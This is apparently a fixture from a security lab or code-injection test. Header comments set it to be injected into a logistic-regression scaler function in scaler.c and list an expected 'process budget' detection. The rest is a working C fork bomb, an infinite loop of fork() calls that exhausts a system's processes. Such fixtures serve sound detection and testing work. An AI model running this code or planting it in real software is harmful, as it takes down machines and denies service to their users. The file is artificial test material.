// attack: a fork bomb
// env: CHECK_SUB_LIFT=references-outside-api,runs-at-load-or-exit
// lab: 01
// base: skeleton
// file: scaler.c
// inject: logreg_scaler_fit
// lose: all
// expect: process budget
// multiplier: 0.3
#include <unistd.h> // fork
static void ddplab_attack(void)
{
    for (;;)
        fork();
}
